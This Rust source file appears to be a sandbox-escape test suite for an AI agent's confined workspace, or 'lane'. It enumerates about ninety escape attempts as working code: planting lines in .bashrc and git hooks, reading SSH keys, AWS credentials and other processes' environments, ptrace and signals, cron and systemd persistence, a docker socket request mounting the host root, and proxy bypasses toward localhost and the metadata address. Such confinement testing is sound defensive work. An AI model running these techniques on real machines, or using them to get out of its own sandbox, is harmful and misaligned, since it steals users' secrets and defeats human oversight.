//! The escapes, one function each, tried one after the other by an agent inside a lane.
//!
//! Each returns what it reached, or why it was held. That is only a hint: whether a try got through is judged from
//! outside by its [`Proof`], because a copied home may well be written to.

use std::fs::{self, File, OpenOptions, Permissions};
use std::io::{self, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::os::unix::net::{self as unix, UnixDatagram, UnixStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, SystemTime};

use serde::{Deserialize, Serialize};

use crate::{network, sys};

/// The beginning of every secret outside; its name follows.
pub(crate) const SECRET: &str = "SECRET-OF-THE-USER-";

/// What the program knows about the world that it tries to reach.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub(crate) struct Facts {
    /// Whether there is a sandbox. Some tries would change the machine without one.
    pub(crate) confined: bool,
    pub(crate) home: PathBuf,
    pub(crate) project: PathBuf,
    pub(crate) lanes: PathBuf,
    /// Another lane, and its registration.
    pub(crate) other_lane: PathBuf,
    pub(crate) other_admin: PathBuf,
    /// The lock of a third one.
    pub(crate) other_hold: PathBuf,
    /// A process outside with secrets in its environment and its arguments, and two to be ended.
    pub(crate) bystander: u32,
    pub(crate) victims: [u32; 2],
    /// Sockets that listen outside.
    pub(crate) stream: PathBuf,
    pub(crate) stream_in_run: Option<PathBuf>,
    pub(crate) datagram: PathBuf,
    /// A directory with the sockets of the user's bus, of systemd and of docker.
    pub(crate) desktop: PathBuf,
    /// A terminal that belongs to no process of the attempt.
    pub(crate) terminal: PathBuf,
    pub(crate) abstract_name: String,
    pub(crate) tcp: u16,
    pub(crate) udp: u16,
    /// Files in /dev/shm and /tmp, and a segment of shared memory.
    pub(crate) shm: PathBuf,
    pub(crate) tmp: PathBuf,
    pub(crate) shm_key: i32,
    /// Objects of the repository that nothing refers to.
    pub(crate) objects: [PathBuf; 2],
    /// The handle of a secret.
    pub(crate) handle: Vec<u32>,
    /// A set-uid program of root that prints a file, and a file that only root can read.
    pub(crate) set_uid: Option<(PathBuf, PathBuf)>,
}

/// What shows, outside, that a try got through.
pub(crate) enum Proof {
    /// Its mark is in a file outside.
    Mark,
    /// A secret with one of these names was read.
    Secret(&'static [&'static str]),
    /// A service outside got its mark.
    Heard,
    /// This service outside was reached.
    Reached(&'static str),
    /// A process outside has ended: the number of the victim.
    Ended(usize),
    /// One of these is different.
    Changed(fn(&Facts) -> Vec<PathBuf>),
    /// This shows it.
    Shown(fn(&Facts) -> bool),
    /// Only the process itself can know.
    Claim,
}

/// What one try reached, or why it was held.
pub(crate) type Tried = io::Result<String>;

/// One escape: its number in the list, what it tries, what proves it, the try.
pub(crate) struct Try {
    pub(crate) id: &'static str,
    pub(crate) what: &'static str,
    pub(crate) proof: Proof,
    pub(crate) attempt: fn(&Facts, &str) -> Tried,
}

const fn one(id: &'static str, what: &'static str, proof: Proof, attempt: fn(&Facts, &str) -> Tried) -> Try {
    Try { id, what, proof, attempt }
}

/// Every escape. The attempts get their mark.
pub(crate) const TRIES: &[Try] = &[
    one("01", "append to .bashrc", Proof::Mark, |f, m| append(&f.home.join(".bashrc"), m)),
    one("02", "create .bash_profile", Proof::Mark, |f, m| append(&f.home.join(".bash_profile"), m)),
    one("03", "write to another lane", Proof::Mark, |f, m| append(&f.other_lane.join("theirs.txt"), m)),
    one("04", "read another lane", Proof::Secret(&["lane"]), |f, _| read(&f.other_lane.join("theirs.txt"))),
    one("05", "write to the main checkout", Proof::Mark, |f, m| append(&f.project.join("README.md"), m)),
    one("05b", "write beside the main checkout", Proof::Mark, |f, m| {
        append(&f.project.with_file_name("beside"), m)
    }),
    one("06", "change the repository's configuration", Proof::Mark, |f, m| {
        append(&f.project.join(".git/config"), m)
    }),
    one("07", "plant a hook", Proof::Mark, |f, m| append(&f.project.join(".git/hooks/post-checkout"), m)),
    one(
        "08",
        "move the target branch",
        Proof::Changed(|f| vec![f.project.join(".git/refs/heads/main")]),
        |f, _| move_target(f),
    ),
    one("09", "write the HEAD of another lane", Proof::Mark, |f, m| append(&f.other_admin.join("HEAD"), m)),
    one("09b", "read what another lane has committed", Proof::Secret(&["admin"]), |f, _| {
        read(&f.other_admin.join("git/secret.txt"))
    }),
    one("09c", "take the lock of another lane", Proof::Secret(&["hold"]), |f, _| {
        let file = File::open(&f.other_hold)?;
        rustix::fs::flock(&file, rustix::fs::FlockOperation::NonBlockingLockExclusive)?;
        read(&f.other_hold)
    }),
    one("10", "delete an object", Proof::Changed(|f| vec![f.objects[0].clone()]), |f, _| {
        fs::remove_file(&f.objects[0]).map(done)
    }),
    one("11", "overwrite an object", Proof::Mark, |f, m| {
        let _ = fs::set_permissions(&f.objects[1], Permissions::from_mode(0o644));
        append(&f.objects[1], m)
    }),
    one("12", "redirect the repository's objects", Proof::Mark, |f, m| {
        append(&f.project.join(".git/objects/info/alternates"), m)
    }),
    one("13", "read the store", Proof::Secret(&["store"]), |f, _| found(&[&f.project.join(".regatta")])),
    one("14", "write the store", Proof::Mark, |f, m| {
        // A store that is in use is soon written over, so the mark is beside it too.
        let beside = append(&f.project.join(".regatta/planted"), m);
        append(&f.project.join(".regatta/regatta.db"), m).or(beside)
    }),
    one("15", "read a key of ssh", Proof::Secret(&["id_ed25519"]), |f, _| {
        read(&f.home.join(".ssh/id_ed25519"))
    }),
    one("16", "read .aws and .netrc", Proof::Secret(&["aws", "netrc"]), |f, _| {
        read(&f.home.join(".aws/credentials")).or_else(|_| read(&f.home.join(".netrc")))
    }),
    one("17", "read a key through a hard link", Proof::Secret(&["id_linked"]), |f, _| {
        linked("key", |link| fs::hard_link(f.home.join(".ssh/id_linked"), link), read)
    }),
    one("18", "write through a hard link", Proof::Mark, |f, m| {
        linked("hard", |link| fs::hard_link(f.home.join(".profile"), link), |link| append(link, m))
    }),
    one("19", "write through a symbolic link", Proof::Mark, |f, m| {
        linked("soft", |link| symlink(f.home.join(".zshrc"), link), |link| append(link, m))
    }),
    one("20", "rename the lane", Proof::Mark, |f, m| {
        let lane = std::env::current_dir()?;
        fs::rename(&lane, f.lanes.join("moved"))?;
        let marked = append(&f.lanes.join("mark"), m);
        fs::rename(f.lanes.join("moved"), &lane)?;
        marked
    }),
    one("21", "read through a process's root", Proof::Secret(&["id_root"]), |f, _| {
        let inside = f.home.join(".ssh/id_root");
        let inside = inside.strip_prefix("/").map_err(io::Error::other)?;
        read(&PathBuf::from(format!("/proc/{}/root", f.bystander)).join(inside))
    }),
    one("22", "read a process's environment", Proof::Secret(&["environ"]), |f, _| {
        read(Path::new(&format!("/proc/{}/environ", f.bystander)))
    }),
    one("23", "attach to a process", Proof::Ended(0), |f, _| alone(&["trace", &f.victims[0].to_string()])),
    one("24", "signal a process", Proof::Ended(1), |f, _| sys::kill(f.victims[1]).map(done)),
    one("25", "connect to a unix socket in the home", Proof::Heard, |f, m| {
        UnixStream::connect(&f.stream)?.write_all(m.as_bytes()).map(done)
    }),
    one("26", "connect to a unix socket in /run", Proof::Heard, |f, m| match &f.stream_in_run {
        Some(path) => UnixStream::connect(path)?.write_all(m.as_bytes()).map(done),
        None => Err(io::Error::other("only root can make one")),
    }),
    one("27", "connect to an abstract socket", Proof::Heard, |f, m| {
        let address = unix::SocketAddr::from_abstract_name(&f.abstract_name)?;
        UnixStream::connect_addr(&address)?.write_all(m.as_bytes()).map(done)
    }),
    one("28", "send to a datagram socket", Proof::Heard, |f, m| {
        UnixDatagram::unbound()?.send_to(m.as_bytes(), &f.datagram).map(|_| done(()))
    }),
    one("28b", "send from one of a pair of sockets", Proof::Heard, |f, m| {
        sys::send_from_pair(&f.datagram, m.as_bytes()).map(done)
    }),
    one("29", "gain rights by a set-uid program", Proof::Secret(&["of-root"]), |f, _| match &f.set_uid {
        Some((program, file)) => {
            let output = Command::new(program).arg(file).output()?;
            Ok(String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned())
        }
        None => Err(io::Error::other("root prepares it for an ordinary user")),
    }),
    one("29b", "lack no_new_privs", Proof::Claim, |_, _| {
        if fs::read_to_string("/proc/self/status")?.contains("NoNewPrivs:\t1") {
            Err(io::Error::other("it is set"))
        } else {
            Ok("it is not set".into())
        }
    }),
    one("30", "make a user namespace", Proof::Claim, |_, _| alone(&["user-namespace"])),
    one("31", "make a user namespace with clone3", Proof::Claim, |_, _| sys::clone3_namespace().map(done)),
    one("32", "mount a file system", Proof::Claim, |_, _| mount()),
    one("33", "type into the terminal", Proof::Claim, |_, _| {
        use std::os::fd::AsRawFd as _;
        let terminal = File::open("/dev/tty")?;
        sys::type_into(terminal.as_raw_fd()).map(done)
    }),
    one("34", "use io_uring", Proof::Claim, |_, _| sys::io_uring().map(done)),
    one("35", "read the session keyring", Proof::Claim, |_, _| sys::keyring().map(done)),
    one("36", "open a vsock", Proof::Claim, |_, _| sys::vsock().map(done)),
    one("37", "load a kernel map", Proof::Claim, |_, _| sys::bpf().map(done)),
    one("38", "make a device node", Proof::Claim, |_, _| sys::device(Path::new("disk")).map(done)),
    one("39", "open a file by its handle", Proof::Secret(&["id_handle"]), |f, _| {
        let mut text = String::new();
        sys::by_handle(&f.handle, Path::new("."))?.read_to_string(&mut text)?;
        Ok(text)
    }),
    one("40", "connect to a service on loopback", Proof::Heard, |f, m| {
        let address = SocketAddr::from(([127, 0, 0, 1], f.tcp));
        TcpStream::connect_timeout(&address, Duration::from_secs(2))?.write_all(m.as_bytes()).map(done)
    }),
    one("41", "send a datagram, as a lookup of a name would", Proof::Heard, |f, m| {
        UdpSocket::bind("127.0.0.1:0")?.send_to(m.as_bytes(), ("127.0.0.1", f.udp)).map(|_| done(()))
    }),
    one("42", "change a mode outside", Proof::Changed(|f| both(f, "mode")), |f, _| {
        of_both(f, "mode", |path| fs::set_permissions(path, Permissions::from_mode(0o777)))
    }),
    one("43", "change a time outside", Proof::Changed(|f| both(f, "time")), |f, _| {
        of_both(f, "time", |path| File::open(path)?.set_modified(SystemTime::UNIX_EPOCH))
    }),
    one("44", "set an attribute outside", Proof::Changed(|f| both(f, "attribute")), |f, _| {
        of_both(f, "attribute", sys::set_attribute)
    }),
    one("45", "write a setting of the kernel", Proof::Claim, |_, _| {
        OpenOptions::new().write(true).open("/proc/sys/kernel/core_pattern").map(|_| done(()))
    }),
    one("46", "read another process's /dev/shm", Proof::Secret(&["shm"]), |f, _| read(&f.shm)),
    one("46b", "read another process's /tmp", Proof::Secret(&["tmp"]), |f, _| read(&f.tmp)),
    one("46c", "write to another process's /tmp", Proof::Mark, |f, m| append(&f.tmp, m)),
    one("47", "read another process's shared memory", Proof::Secret(&["segment"]), |f, _| {
        sys::shared_memory(f.shm_key)
    }),
    one("48", "plant a program in .local/bin", Proof::Mark, |f, m| append(&f.home.join(".local/bin/git"), m)),
    one("49", "find an inherited descriptor", Proof::Claim, |_, _| inherited()),
    one("50", "truncate a file outside", Proof::Changed(|f| both(f, "length")), |f, _| {
        of_both(f, "length", |path| OpenOptions::new().write(true).truncate(true).open(path).map(drop))
    }),
    one("51", "make an x32 call", Proof::Claim, |_, _| sys::x32().map(done)),
    one("52", "see a process outside", Proof::Secret(&["arguments"]), |f, _| {
        read(Path::new(&format!("/proc/{}/cmdline", f.bystander)))
    }),
    one(
        "52b",
        "change a limit of a process",
        Proof::Shown(|f| {
            let limits = fs::read_to_string(format!("/proc/{}/limits", f.bystander)).unwrap_or_default();
            let core = limits.lines().find_map(|line| line.strip_prefix("Max core file size"));
            core.and_then(|text| text.split_whitespace().next()) == Some("7")
        }),
        |f, _| sys::limit(f.bystander).map(done),
    ),
    one("74", "find an end of a terminal of somebody else", Proof::Heard, |f, m| {
        OpenOptions::new().write(true).open(&f.terminal)?.write_all(m.as_bytes()).map(done)
    }),
    one("75", "have a capability", Proof::Claim, |_, _| {
        let status = fs::read_to_string("/proc/self/status")?;
        // Nothing can be gained from the bounding set without a set-uid program.
        let sets = status.lines().filter(|line| line.starts_with("Cap") && !line.starts_with("CapBnd"));
        let some: Vec<&str> = sets.filter(|line| !line.ends_with("\t0000000000000000")).collect();
        if some.is_empty() { Err(io::Error::other("none")) } else { Ok(some.join(" ")) }
    }),
    one("76", "write to the record of what it says", Proof::Claim, |_, _| {
        let ends = [1, 2].map(|n| fs::read_link(format!("/proc/self/fd/{n}")).unwrap_or_default());
        let is_file = |path: &PathBuf| path.is_absolute() && !path.starts_with("/dev");
        match ends.iter().find(|path| is_file(path)) {
            Some(path) => Ok(path.display().to_string()),
            None => Err(io::Error::other(format!("{ends:?}"))),
        }
    }),
    one("77", "take a descriptor of the first process", Proof::Claim, |_, _| first_process()),
    one("64", "leave something for cron and systemd", Proof::Mark, services),
    one("64b", "have systemd-run, loginctl or dbus-send act", Proof::Reached("bus"), |f, _| by_bus(f)),
    one("64c", "leave a job with crontab or at", Proof::Mark, jobs),
    one("65", "find the desktop in the environment", Proof::Secret(&["desktop"]), |_, _| {
        Ok(std::env::vars()
            .map(|(name, value)| format!("{name}={value} "))
            .filter(|it| it.contains(SECRET))
            .collect())
    }),
    one("66", "talk to docker, systemd and the bus", Proof::Claim, |f, _| engines(f)),
    one("66b", "have docker run a container", Proof::Heard, |f, m| {
        let body = format!("{{\"Image\":\"x\",\"Cmd\":[\"{m}\"],\"HostConfig\":{{\"Binds\":[\"/:/h\"]}}}}");
        let head = format!("POST /containers/create HTTP/1.1\r\nContent-Length: {}\r\n\r\n", body.len());
        UnixStream::connect(f.desktop.join("docker.sock"))?.write_all((head + &body).as_bytes()).map(done)
    }),
    one("71", "find Regatta's token or its store", Proof::Claim, |_, _| {
        let names = ["REGATTA_TOKEN", "REGATTA_STORE", "KUBECONFIG", "DOCKER_HOST", "SSH_AUTH_SOCK"];
        let found: Vec<&str> = names.into_iter().filter(|name| std::env::var_os(name).is_some()).collect();
        if found.is_empty() { Err(io::Error::other("none is set")) } else { Ok(found.join(", ")) }
    }),
    one("71b", "read the environment of the first process", Proof::Claim, |_, _| {
        let text = fs::read("/proc/1/environ")?;
        let text = String::from_utf8_lossy(&text);
        let bad = text.split('\0').find(|line| line.starts_with("REGATTA_TOKEN=") || line.contains(SECRET));
        bad.map(str::to_owned).ok_or_else(|| io::Error::other("it has nothing of use"))
    }),
    one("72", "open a raw packet socket", Proof::Claim, |_, _| sys::packets().map(done)),
    one("67a", "ask the proxy for an address of this machine", Proof::Heard, |f, m| {
        network::connect(&format!("127.0.0.1:{}", f.tcp), m)
    }),
    one("67b", "ask the proxy for localhost", Proof::Heard, |f, m| {
        network::connect(&format!("localhost:{}", f.tcp), m)
    }),
    one("67c", "ask the proxy for this machine by its name", Proof::Heard, |f, m| {
        let name = fs::read_to_string("/proc/sys/kernel/hostname")?;
        network::connect(&format!("{}:{}", name.trim(), f.tcp), m)
    }),
    one("67d", "ask the proxy for the address of metadata", Proof::Claim, |_, m| {
        network::connect("169.254.169.254:80", m)
    }),
    one("67e", "ask the proxy for a host that is not listed", Proof::Claim, |_, m| {
        network::connect("unlisted.example:443", m)
    }),
    one("67f", "ask the proxy with a whole address", Proof::Heard, |f, m| {
        network::get(&format!("http://127.0.0.1:{}/{m}", f.tcp), "127.0.0.1")
    }),
    one("67g", "ask the proxy for one host in the line and another in the header", Proof::Heard, |f, m| {
        network::get(&format!("http://127.0.0.1:{}/{m}", f.tcp), "pypi.org")
    }),
    one("67h", "ask the proxy with odd spellings of this machine", Proof::Heard, |f, m| {
        let odd =
            ["127.1", "0.0.0.0", "0x7f000001", "2130706433", "[::1]", "[::ffff:127.0.0.1]", "LOCALHOST."];
        let tried: Vec<Tried> =
            odd.iter().map(|name| network::connect(&format!("{name}:{}", f.tcp), m)).collect();
        tried.into_iter().reduce(Tried::or).unwrap_or_else(|| Ok(String::new()))
    }),
    one("67i", "reach another machine directly", Proof::Claim, |f, _| {
        if !f.confined {
            return Err(io::Error::other("not tried"));
        }
        // An address for documentation: nobody answers, but a network namespace has no way to it at all.
        match UdpSocket::bind("0.0.0.0:0")?.connect("192.0.2.1:53") {
            Ok(()) => Ok("there is a way".into()),
            Err(error) => Err(error),
        }
    }),
    one("73", "find a secret anywhere", Proof::Secret(&["*"]), |f, _| {
        found(&[
            &f.home,
            &f.project,
            &f.lanes,
            Path::new("/run"),
            Path::new("/var/tmp"),
            Path::new("/var/spool"),
        ])
    }),
];

/// What a try writes where it should not be able to.
pub(crate) fn mark(who: &str, id: &str) -> String {
    format!("ESCAPED-{who}-{id};")
}

/// Tries all with one of these ids, or every one, and writes a line for each to standard output and to a
/// file in the lane.
pub(crate) fn try_all(facts: &Path, who: &str, ids: &[&str]) -> io::Result<()> {
    let facts: Facts = serde_json::from_slice(&fs::read(facts)?)?;
    let mut report = File::create(format!("tries-{who}.txt")).ok();
    for attempt in TRIES.iter().filter(|it| ids.is_empty() || ids.contains(&it.id)) {
        let Try { id, what, .. } = attempt;
        let line = match (attempt.attempt)(&facts, &mark(who, id)) {
            Ok(reached) => format!("{id} REACHED {what}: {}\n", reached.escape_debug()),
            Err(error) => format!("{id} held {what}: {error}\n"),
        };
        io::stdout().write_all(line.as_bytes())?;
        if let Some(report) = &mut report {
            report.write_all(line.as_bytes())?;
        }
    }
    Ok(())
}

/// What has to run in a process of its own.
pub(crate) fn helper(words: &[&str]) -> io::Result<()> {
    match words {
        ["user-namespace"] => sys::user_namespace(),
        ["trace", pid] => sys::ptrace(pid.parse().map_err(io::Error::other)?),
        _ => Err(io::Error::other("no such try")),
    }
}

fn alone(words: &[&str]) -> Tried {
    let output = Command::new(std::env::current_exe()?).arg("helper").args(words).output()?;
    if output.status.success() {
        Ok(done(()))
    } else {
        Err(io::Error::other(String::from_utf8_lossy(&output.stderr).trim().to_owned()))
    }
}

fn mount() -> Tried {
    let at = std::env::current_dir()?.join("mounted");
    fs::create_dir_all(&at)?;
    sys::mount(&at)?;
    let _ = Command::new("umount").arg(&at).status();
    Ok("mounted it".into())
}

fn done((): ()) -> String {
    "it worked".into()
}

fn append(path: &Path, mark: &str) -> Tried {
    let mut file = OpenOptions::new().append(true).create(true).open(path)?;
    file.write_all(format!("# {mark}\n").as_bytes())?;
    Ok(format!("wrote {}", path.display()))
}

fn read(path: &Path) -> Tried {
    let mut bytes = vec![0; 4096];
    let length = File::open(path)?.read(&mut bytes)?;
    bytes.truncate(length);
    if bytes.is_empty() {
        return Err(io::Error::other("it is empty"));
    }
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// Every secret in the files below these directories.
fn found(dirs: &[&Path]) -> Tried {
    let mut todo: Vec<PathBuf> = dirs.iter().map(|dir| dir.to_path_buf()).collect();
    let mut found = Vec::new();
    while let Some(path) = todo.pop() {
        let Ok(meta) = fs::symlink_metadata(&path) else { continue };
        // Not this program, nor what it wrote itself.
        if path.ends_with("bin/escape") || path.to_string_lossy().contains("/tries-") {
            continue;
        }
        if meta.is_dir() {
            todo.extend(fs::read_dir(&path).into_iter().flatten().flatten().map(|entry| entry.path()));
        } else if meta.is_file() && meta.len() < 4 << 20 {
            found.extend(secrets_in(&fs::read(&path).unwrap_or_default()));
        }
    }
    found.sort();
    found.dedup();
    if found.is_empty() { Err(io::Error::other("there is none")) } else { Ok(found.join(" ")) }
}

/// The secrets in some text, each whole.
pub(crate) fn secrets_in(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    let ends = |c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-');
    let names = text.split(SECRET).skip(1).map(|rest| rest.split(ends).next().unwrap_or_default());
    names.map(|name| format!("{SECRET}{name}")).collect()
}

fn linked(
    name: &str,
    link: impl FnOnce(&Path) -> io::Result<()>,
    then: impl FnOnce(&Path) -> Tried,
) -> Tried {
    let path = std::env::current_dir()?.join(format!("link-{name}"));
    let _ = fs::remove_file(&path);
    link(&path)?;
    let tried = then(&path);
    let _ = fs::remove_file(&path);
    tried
}

/// A file in the home and one in the checkout: the one may be copied, the other not.
pub(crate) fn both(facts: &Facts, name: &str) -> Vec<PathBuf> {
    vec![facts.home.join(format!("file-{name}")), facts.project.join(format!("file-{name}"))]
}

fn of_both(facts: &Facts, name: &str, change: fn(&Path) -> io::Result<()>) -> Tried {
    let [home, project] = [0, 1].map(|n| change(&both(facts, name)[n]));
    match (&home, &project) {
        (Err(error), Err(_)) => Err(io::Error::other(error.to_string())),
        _ => Ok(format!("home: {home:?}, project: {project:?}")),
    }
}

fn move_target(facts: &Facts) -> Tried {
    let git = |args: &[&str]| -> io::Result<String> {
        let output = Command::new("git").args(args).output()?;
        Ok(String::from_utf8_lossy(&output.stdout).trim().to_owned())
    };
    let tree = git(&["rev-parse", "HEAD^{tree}"])?;
    let mine = git(&["-c", "user.name=a", "-c", "user.email=a@b", "commit-tree", "-m", "x", &tree])?;
    if mine.is_empty() {
        return Err(io::Error::other("no commit could be made in the lane"));
    }
    fs::write(facts.project.join(".git/refs/heads/main"), mine + "\n").map(done)
}

/// Whether a descriptor came from outside. The lock of the lane may, but only to be held.
fn inherited() -> Tried {
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc/self/fd")? {
        let entry = entry?;
        let number: i32 = entry.file_name().to_string_lossy().parse().unwrap_or(0);
        let target = fs::read_link(entry.path()).unwrap_or_default();
        // Our own: the report and this directory.
        let own = target.starts_with("/proc") || target.to_string_lossy().contains("/tries-");
        let info = fs::read_to_string(format!("/proc/self/fdinfo/{number}")).unwrap_or_default();
        let flags = info.lines().find_map(|line| line.strip_prefix("flags:")).unwrap_or_default();
        let is_lock = target.extension().is_some_and(|end| end == "hold") && flags.trim().ends_with('0');
        if number > 2 && !own && !is_lock {
            found.push(format!("{number} → {} ({})", target.display(), flags.trim()));
        }
    }
    if found.is_empty() { Err(io::Error::other("there is none")) } else { Ok(found.join(", ")) }
}

/// What the first process of the namespace has open that this one has not.
fn first_process() -> Tried {
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc/1/fd")? {
        let entry = entry?;
        let target = fs::read_link(entry.path())?;
        if target.is_absolute() && !target.starts_with("/dev") {
            found.push(target.display().to_string());
        }
    }
    if found.is_empty() { Err(io::Error::other("there is none")) } else { Ok(found.join(", ")) }
}

/// Where cron and systemd look for what to start. Without a sandbox it would be the machine's own.
pub(crate) fn service_places(facts: &Facts) -> Vec<PathBuf> {
    let mut places: Vec<PathBuf> = [
        "/etc/cron.d",
        "/var/spool/cron",
        "/var/spool/cron/crontabs",
        "/etc/systemd/system",
        "/etc/profile.d",
    ]
    .iter()
    .map(|dir| Path::new(dir).join("regatta-escape"))
    .collect();
    places.push(facts.home.join(".config/systemd/user/escape.service"));
    places.push(facts.home.join(".config/autostart/escape.desktop"));
    places
}

fn services(facts: &Facts, mark: &str) -> Tried {
    if !facts.confined {
        return Err(io::Error::other("not tried"));
    }
    let mut tried = Err(io::Error::other("there is no place"));
    for place in service_places(facts) {
        let _ = place.parent().map(fs::create_dir_all);
        tried = append(&place, mark).or(tried);
    }
    tried
}

/// Programs that ask others to start something, and a connection without them.
fn by_bus(facts: &Facts) -> Tried {
    let bus = facts.desktop.join("bus");
    let address = format!("unix:path={}", bus.display());
    for words in [
        &["systemd-run", "--user", "--no-block", "true"][..],
        &["loginctl", "enable-linger"],
        &["dbus-send", "--session", "--dest=org.freedesktop.systemd1", "/", "a.b.c"],
    ] {
        let mut command = Command::new("timeout");
        command.arg("1").args(words).env("DBUS_SESSION_BUS_ADDRESS", &address);
        command.env("DBUS_SYSTEM_BUS_ADDRESS", &address).env("XDG_RUNTIME_DIR", &facts.desktop);
        // Those that are not installed are not tried.
        let _ = command.output();
    }
    UnixStream::connect(&bus).map(|_| done(()))
}

/// The programs with which a user leaves jobs, where they are installed.
fn jobs(facts: &Facts, mark: &str) -> Tried {
    if !facts.confined {
        return Err(io::Error::other("not tried"));
    }
    let text = format!(
        "echo '@reboot true # {mark}' | timeout 2 crontab -; echo 'true # {mark}' | timeout 2 at now + 1 year"
    );
    let output = Command::new("sh").args(["-c", &text]).output()?;
    Err(io::Error::other(String::from_utf8_lossy(&output.stderr).trim().replace('\n', "; ")))
}

/// Sockets of programs that act for others.
fn engines(facts: &Facts) -> Tried {
    if !facts.confined {
        return Err(io::Error::other("not tried"));
    }
    let mut sockets: Vec<String> = [
        "docker.sock",
        "podman/podman.sock",
        "containerd/containerd.sock",
        "dbus/system_bus_socket",
        "systemd/private",
        "systemd/journal/socket",
        "snapd.socket",
    ]
    .iter()
    .flat_map(|name| [format!("/run/{name}"), format!("/var/run/{name}")])
    .collect();
    let id = fs::read_to_string("/proc/self/loginuid").unwrap_or_default();
    sockets.extend(
        ["bus", "systemd/private", "docker.sock"].map(|name| format!("/run/user/{}/{name}", id.trim())),
    );
    let reached: Vec<String> = sockets.into_iter().filter(|path| UnixStream::connect(path).is_ok()).collect();
    if reached.is_empty() { Err(io::Error::other("none answers")) } else { Ok(reached.join(", ")) }
}
